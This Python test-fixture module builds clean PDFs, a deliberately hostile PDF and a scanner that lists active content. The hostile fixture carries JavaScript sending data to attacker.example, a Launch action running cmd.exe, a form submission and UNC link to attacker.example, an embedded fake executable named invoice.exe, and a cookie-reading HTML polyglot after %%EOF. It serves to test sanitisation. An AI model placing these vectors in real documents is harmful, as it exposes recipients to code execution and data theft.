"""PDFs for the tests: plain ones, and hostile ones holding every kind of active content a reader runs."""

import io

import pikepdf
from pikepdf import Array, Dictionary, Name, String

# Bytes a PDF/HTML polyglot carries for a browser: they must never be served.
HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"
# What the hostile PDF runs, launches or embeds: none of it may be left in a rewritten file.
SCRIPT = "app.launchURL('https://attacker.example/steal', true);"
PAYLOAD = b"MZ-this-would-be-an-executable"


def _saved(pdf: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _with_text_page(pdf: pikepdf.Pdf, text: str) -> pikepdf.Page:
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    contents = pikepdf.Stream(pdf, f"BT /F1 14 Tf 72 720 Td ({text}) Tj ET".encode())
    page = Dictionary(
        Type=Name.Page,
        MediaBox=Array([0, 0, 595, 842]),
        Resources=Dictionary(Font=Dictionary(F1=font)),
        Contents=contents,
    )
    pdf.pages.append(pikepdf.Page(page))
    return pdf.pages[-1]


def text_pdf(text: str = "Facture 42,00 EUR") -> bytes:
    """One A4 page showing ``text``."""
    pdf = pikepdf.new()
    _with_text_page(pdf, text)
    return _saved(pdf)


def blank_pdf(salt: str = "") -> bytes:
    """One blank page; ``salt`` (kept in its content, drawn nowhere) makes the file's hash unique.

    A blank page has no perceptual hash: such receipts are never taken for the same picture.
    """
    pdf = pikepdf.new()
    page = Dictionary(Type=Name.Page, MediaBox=Array([0, 0, 595, 842]))
    page.Contents = pikepdf.Stream(pdf, f"% {salt}\n".encode())
    pdf.pages.append(pikepdf.Page(page))
    return _saved(pdf)


def hostile_pdf(text: str = "Facture 42,00 EUR") -> bytes:
    """A page showing ``text``, and every way for a PDF to run, launch, send or carry something.

    JavaScript on opening, on closing, on the page, in the name tree, in an outline, in a form field;
    a Launch action and an attachment annotation with an embedded executable; links to other files,
    to a web address and to a form submission; an XFA form; HTML after ``%%EOF``.
    """
    pdf = pikepdf.new()
    page = _with_text_page(pdf, text)
    script = pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(SCRIPT)))
    payload = pikepdf.Stream(pdf, PAYLOAD)
    payload.Type = Name.EmbeddedFile
    attachment = pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String("invoice.exe"), UF=String("invoice.exe"), EF=Dictionary(F=payload))
    )
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String(SCRIPT), Next=script)
    pdf.Root.AA = Dictionary(WC=script)
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("init"), script])),
        EmbeddedFiles=Dictionary(Names=Array([String("invoice.exe"), attachment])),
    )
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    outline = pdf.make_indirect(Dictionary(Title=String("Open"), Parent=pdf.Root.Outlines, A=script))
    pdf.Root.Outlines.First = pdf.Root.Outlines.Last = outline
    page.AA = Dictionary(O=script, C=Dictionary(S=Name.JavaScript, JS=String(SCRIPT)))

    def link(action: Dictionary) -> Dictionary:
        return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 600, 300, 620]), A=action)

    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("amount"),
            Rect=Array([72, 500, 300, 520]),
            A=Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://attacker.example/form"))),
            AA=Dictionary(K=script, Fo=Dictionary(S=Name.JavaScript, JS=String(SCRIPT))),
        )
    )
    page.Annots = Array(
        [
            link(Dictionary(S=Name.Launch, F=attachment, Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))),
            link(Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))),
            link(Dictionary(S=Name.GoToR, F=String("\\\\attacker.example\\share\\x.pdf"), D=Array([0, Name.Fit]))),
            link(Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("invoice.exe")))),
            link(Dictionary(S=Name.ImportData, F=String("data.fdf"))),
            link(Dictionary(S=Name.GoTo, D=Array([page.obj, Name.Fit]), Next=script)),
            Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 10, 10]), FS=attachment),
            field,
        ]
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=pikepdf.Stream(pdf, b"<xdp:xdp>" + HTML + b"</xdp:xdp>"))
    return _saved(pdf) + HTML


def page_contents(data: bytes) -> bytes:
    """What the pages draw, decompressed (a rewritten PDF compresses it): where ``blank_pdf`` keeps its salt."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        return b"".join(page.Contents.read_bytes() for page in pdf.pages)


_ACTIVE_KEYS = {"/AA", "/OpenAction", "/JS", "/JavaScript", "/EF", "/AF", "/EmbeddedFiles", "/XFA"}
_ACTIVE_ACTIONS = {"/JavaScript", "/Launch", "/URI", "/GoToR", "/GoToE", "/SubmitForm", "/ImportData"}


def active_content(data: bytes) -> list[str]:
    """Everything active found in the file, read both as a PDF (every object) and as raw bytes."""
    found = [
        f"bytes {marker!r}"
        for marker in (b"<script", b"<html", b"/JavaScript", b"/Launch", SCRIPT.encode(), PAYLOAD)
        if marker in data
    ]
    if not data.startswith(b"%PDF-"):
        found.append("does not start with %PDF-")
    if data.rstrip().rsplit(b"\n", 1)[-1] != b"%%EOF":
        found.append("bytes after %%EOF")
    seen: set[tuple[int, int]] = set()

    def walk(value: object, where: str) -> None:
        if isinstance(value, pikepdf.Object) and value.is_indirect:
            if value.objgen in seen:
                return
            seen.add(value.objgen)
        if isinstance(value, Dictionary | pikepdf.Stream):
            found.extend(f"{where}{key}" for key in value if key in _ACTIVE_KEYS)
            if str(value.get("/S", "")) in _ACTIVE_ACTIONS:
                found.append(f"{where} action {value.S}")
            if value.get("/Subtype") == Name.FileAttachment:
                found.append(f"{where} file attachment")
            if isinstance(value, pikepdf.Stream) and PAYLOAD in value.read_bytes():
                found.append(f"{where} embedded payload")
            for key in value:
                walk(value.get(key), f"{where}{key}")
        elif isinstance(value, Array):
            for index, child in enumerate(value):
                walk(child, f"{where}[{index}]")

    with pikepdf.open(io.BytesIO(data)) as pdf:
        walk(pdf.trailer, "trailer")
        for index, value in enumerate(pdf.objects):
            walk(value, f"object {index}")
    return found
